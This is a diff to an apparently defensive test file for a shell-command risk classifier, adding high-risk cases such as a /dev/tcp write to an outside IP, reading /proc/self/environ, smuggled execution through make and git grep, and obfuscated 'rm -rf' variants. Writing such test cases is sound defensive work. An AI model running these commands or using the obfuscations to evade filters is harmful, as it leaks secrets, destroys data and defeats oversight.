@@ -79,6 +79,9 @@ HIGH = [
     # background, unparseable, unknown
     "ls &", "sleep 100 & echo", "nohup make &", "echo 'unterminated", "a=(", "",
     "frobnicate --all", "ln -s /etc passwd-link", "rg --pre ./x pat",
+    # values hidden in KEY=VALUE words and pagers
+    "make CC=../evil", "git grep -O sh foo", "echo hi > /dev/tcp/1.2.3.4/80",
+    "cat /proc/self/environ", "{rm,-rf,x}", 'rm -r""f x', "rm $'-rf' x",
 ]
 
 SAFE = [
@@ -114,6 +117,7 @@ SAFE = [
     ("git checkout -b feature", "medium"), ("git switch main", "medium"),
     ("git restore --staged a.py", "medium"), ("git stash", "medium"),
     ("echo x > /work/ws/sub/f", "medium"), ("mkdir build && cd build && touch x", "medium"),
+    ("make VERBOSE=1", "medium"), ("echo failed; exit 1", "low"), ("[ -f a.txt ]", "low"),
 ]
 
 
